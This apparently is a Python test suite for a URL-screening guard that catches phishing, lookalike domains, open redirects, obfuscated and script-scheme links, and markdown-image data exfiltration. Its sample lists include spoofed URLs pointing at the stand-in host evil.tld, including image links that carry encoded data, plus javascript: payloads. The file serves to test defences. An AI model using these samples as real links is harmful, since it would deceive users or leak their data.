"""`URLs`: read as browsers read them, judged, and never visited."""

from __future__ import annotations

import pickle
import socket
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmops_sdk.errors import ConfigurationError
from llmops_sdk.guards import URLs
from llmops_sdk.guards._urls.guard import _near, _parse, _parse_closely
from llmops_sdk.testing import GuardContract

BAD = {
    "userinfo": [
        "https://www.paypal.com@evil.tld/x",
        "https://bank.example:443@evil.tld",
        "http://paypal.com%2Flogin@evil.tld",
    ],
    "ip": [
        "http://2130706433/",
        "http://0x7f.0x0.0x0.0x1/a",
        "http://0177.0.0.1",
        "http://[2001:db8::1]/x",
        "http://8.8.8.8/a",
        "http://127.1/",
    ],
    "lookalike": [
        "http://paypa1.com",
        "https://p\u0430ypal.com/login",
        "https://xn--pypal-4ve.com/",
        "http://paypal.com.evil.tld/a",
        "http://www.login.paypal.com.evil.tld/a",
        "paypal-login.com",
        "http://githud.com/x",
        "http://rnicrosoft.com",
        "mailto:ceo@paypa1.com",
        "https://\u0440\u0430\u0443\u0440\u0430l.com",
        "http://\uff50\uff41ypal.com.evil.tld",
    ],
    "shortener": ["https://bit.ly/abc", "t.co/abc"],
    "mismatch": ["[https://bank.example](https://evil.tld/x)", "[www.bank.com](http://evil.tld)"],
    "redirect": [
        "https://site.example/r?url=https%3A%2F%2Fevil.tld",
        "https://site.example/?next=//evil.tld/a",
        "https://site.example/?next=https:\\\\evil.tld",
    ],
    "exfiltration": [
        "![x](https://evil.tld/?q=abcdefghijklmnopqrstuvwxyz0123)",
        "https://evil.tld/?d=" + "a1" * 100,
        "![x](https://evil.tld/" + "QUJD" * 20 + ".png)",
    ],
    "obfuscated": [
        "hxxp://evil.tld/x",
        "http://evil[.]tld/x",
        "http:\\\\evil.tld\\x",
        "http:evil.tld/x",
        "http:/evil.tld/x",
        "http://evil%2etld/x",
        "http://evil\u3002tld/",
        "hxxps[:]//evil[.]tld/a",
    ],
    "script": [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,AAAA",
        "[a](javascript:alert(1))",
        "vbscript:msgbox(1)",
        "JAVASCRIPT:alert(1)",
    ],
    "too_long": ["https://evil.tld/" + "a" * 3_000],
}

GOOD = [
    "https://docs.python.org/3/library/re.html#re.match",
    "See https://github.com/a/b/issues/3.",
    "main.py, README.md, a.b.c and obj.method()",
    "[docs](/a/b.md) and [x](#y), [site](https://example.org/a)",
    "http://127.0.0.1:8000/ and http://localhost:3000/x?y=1",
    "m\u00fcnchen.de, k\u00f8bmand.dk, \u65e5\u672c\u8a9e.jp",
    "![badge](https://img.shields.io/badge.svg?style=flat)",
    "e.g. this, i.e. that. No.1 at 3.14; v1.2.3",
    "ada@example.org",
    "mailto:ada@example.org",
    "https://user:pw@example.org/",
    "https://example.org/search?q=red+shoes&page=2",
    "https://en.wikipedia.org/wiki/URL_(disambiguation)",
    "//example.org/app.js",
    "https://www.paypal.com/signin",
    "[github.com](https://github.com/x)",
    "[Read more](https://example.org)",
    "data:image/png;base64,AAAA",
    "https://www.google.co.uk/a",
    "C:\\Users\\ada\\file.txt",
    "ftp://ftp.example.org/pub",
    "http://",
    "://",
    "and/or",
    "https://example.org/\u00fcber",
]


class TestContract(GuardContract):
    examples_allowed = ("See https://example.org/a.", "[x](https://example.org) is fine", "nothing")
    examples_caught = (
        "go to http://paypal.com.evil.tld/a now",
        "[https://bank.com](http://evil.tld/x)",
        "hxxp://evil[.]tld",
        "java\nscript:alert(1)",
    )
    tries = 25

    def make_guard(self):
        return URLs()


class TestThatBlocks(TestContract):
    def make_guard(self):
        return URLs(action="block", allow=["example.org"])


class TestThatFlags(TestContract):
    def make_guard(self):
        return URLs(action="flag", deny=["evil.tld"])


@pytest.mark.parametrize(("kind", "url"), [(kind, url) for kind, urls in BAD.items() for url in urls])
def test_what_is_wrong_is_found_and_named(kind, url):
    guard = URLs(action="flag")
    for text in (url, f"Please see {url}", f"See {url}, please."):
        assert kind in {finding.kind for finding in guard.check(text).findings}, text


@pytest.mark.parametrize("text", GOOD)
def test_what_is_fine_passes(text):
    assert URLs().check(text).action == "allow", URLs().check(text)


def test_only_allowed_hosts_and_their_subdomains_pass():
    guard = URLs(allow=["example.org", "*.parts.example"], action="flag")
    for url in ("https://example.org", "http://www.example.org/a", "a.parts.example", "https://EXAMPLE.org./"):
        assert guard.check(url).action == "allow", url
    for url in (
        "https://other.com",
        "https://parts.example",
        "https://example.org.other.com",
        "https://notexample.org",
        "www.other.com/x",
        "[a](//other.com)",
        "//other.com/a",
    ):
        assert guard.check(url).action == "flag", url


def test_denied_goes_before_allowed():
    guard = URLs(allow=["example.org"], deny=["bad.example.org"])
    assert guard.judge("https://bad.example.org/") == "denied"
    assert guard.judge("https://a.bad.example.org/") == "denied"
    assert guard.judge("https://good.example.org/") is None


def test_an_allowed_host_may_not_send_its_visitors_on_to_others():
    guard = URLs(allow=["example.org"])
    assert guard.judge("https://example.org/?next=https://evil.tld") == "redirect"
    assert guard.judge("https://example.org/?next=https://www.example.org/a") is None


def test_brands_of_ones_own_are_protected():
    assert URLs(brands=["mybank.example"]).judge("https://mybamk.example") == "lookalike"
    assert URLs().judge("https://mybamk.example") is None


def test_kinds_choose_what_is_judged():
    assert URLs(kinds=["ip"]).judge("https://bit.ly/a") is None
    assert URLs(kinds=["ip"]).judge("https://8.8.8.8/a") == "ip"


def test_the_url_is_replaced_and_the_sentence_stays():
    text = "Look (https://bit.ly/a), or [here](http://8.8.8.8/x), ok?"
    assert URLs().check(text).text == "Look ([URL removed]), or [URL removed], ok?"


@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("https://a.example\\@b.example", "a.example"),
        ("https://a.example/@b.example", "a.example"),
        ("https://a@b@c.example", "c.example"),
        ("https:\\/\\/a.example/x", "a.example"),
        ("ht\ntps://a.exa\tmple/x", "a.example"),
        ("https:///a.example", "a.example"),
        ("//a.example:80/x", "a.example"),
        ("https://A.EXAMPLE.:443/", "a.example"),
        ("https://a.example?x", "a.example"),
        ("https://a.example#@b.example", "a.example"),
        ("https://%61.example", "a.example"),
        ("https://a\uff0eexample", "a.example"),
        ("https://\uff41.example", "a.example"),
    ],
)
def test_hosts_are_read_as_browsers_read_them(written, host):
    assert _parse(written).host == host


@given(st.text("abc", max_size=5), st.text("abc", max_size=5))
def test_near_is_one_edit_away(one, other):
    edits = set()
    for i in range(len(one) + 1):
        edits |= (
            {one[:i] + c + one[i:] for c in "abc"}
            | {one[:i] + one[i + 1 :]}
            | {one[:i] + c + one[i + 1 :] for c in "abc" if i < len(one)}
        )
        if i + 1 < len(one):
            edits.add(one[:i] + one[i + 1] + one[i] + one[i + 2 :])
    assert _near(one, other) is (other in edits and other != one)


@given(st.text("htp:/\\@.?#%a1-[] ", max_size=24))
@settings(max_examples=200, deadline=None)
def test_what_is_read_at_a_glance_reads_the_same_more_closely(text):
    assert _parse(text) == _parse_closely(text)
    assert _parse("http://" + text) == _parse_closely("http://" + text)


def test_nothing_is_ever_visited(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("a socket was asked for")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    for urls in BAD.values():
        for url in urls:
            assert URLs(action="block").check(url).blocked


@pytest.mark.parametrize(
    "arguments",
    [
        {"allow": "example.org"},
        {"deny": ["https://a.b"]},
        {"kinds": ["no"]},
        {"action": "no"},
        {"allow": [""]},
        {"brands": [3]},
    ],
)
def test_options_that_make_no_sense_are_refused(arguments):
    with pytest.raises(ConfigurationError):
        URLs(**arguments)


HOSTILE = [
    "http://" * 1_500,
    "a." * 50_000,
    "[" * 100_000,
    "](" * 50_000,
    "[a](http://b " * 7_000,
    "http://" + "a" * 100_000,
    "http://" + "@" * 100_000,
    "%2e" * 33_000,
    "http://a[.]" * 9_000,
    "\x00" * 100_000,
    "\ud800.com" * 16_000,
    "//" * 50_000,
    "-" * 100_000,
    "javascript:" * 9_000,
    "xn--" * 5_000,
    "a.com" * 20_000,
    "w" * 100_000,
    "http://xn--" + "9" * 1_900 + ".com",
    "http://bit.ly/a " * 2_000,
    "\u202ehttp://moc.live" * 1_000,
    "]: " * 33_000,
    "http://a.b/?" + "u=//&" * 400,
    "java\t" * 20_000,
]


@pytest.mark.parametrize(
    "unit", ["http://", "http://a[.]", "a[.]", "\u202ehttp://moc.live", "http://bit.ly/a ", "mailto:"]
)
@pytest.mark.parametrize("size", [0, 4, 200])
def test_a_longer_hostile_text_takes_no_more_than_its_share(unit, size, cpu_time):
    """Whole, and in a stream however it is cut."""
    guard = URLs()
    guard.prepare()

    def work(length):
        text = unit * (length // len(unit))
        if not size:
            guard.check(text)
            return
        stream = guard.open_stream(TestContract().make_context())
        for at in range(0, len(text), size):
            stream.feed(text[at : at + size])
        stream.finish()

    # Both are longer than the window, within which the cost grows.
    assert cpu_time(work, 20_000) <= 12 * cpu_time(work, 5_000) + 0.001


@pytest.mark.parametrize("hostile", HOSTILE, ids=[str(i) for i in range(len(HOSTILE))])
def test_hostile_texts_get_a_verdict_and_stay_within_the_window(hostile):
    guard = URLs()
    hostile = hostile[:20_000]
    whole = guard.check(hostile)
    stream = guard.open_stream(TestContract().make_context())
    emitted = []
    for i in range(0, len(hostile), 500):
        emitted.append(stream.feed(hostile[i : i + 500]))
        assert len(stream.held) <= guard.window
    emitted.append(stream.finish())
    assert "".join(emitted) == (hostile if whole.text is None else whole.text)


def test_it_survives_pickle_and_works_from_many_threads():
    guard = pickle.loads(pickle.dumps(URLs(allow=["example.org"])))
    with ThreadPoolExecutor(4) as pool:
        found = list(pool.map(lambda i: guard.check(f"{i} http://8.8.8.8/{i}"), range(400)))
    assert all(verdict.findings[0].kind == "ip" for verdict in found)


@settings(max_examples=100, deadline=None)
@given(st.text("htp:/\\@.[]()%2e\u3002a \t?=&xn-", max_size=60))
def test_any_text_gets_a_verdict(text):
    URLs(allow=["a.a"]).check("http://" + text)
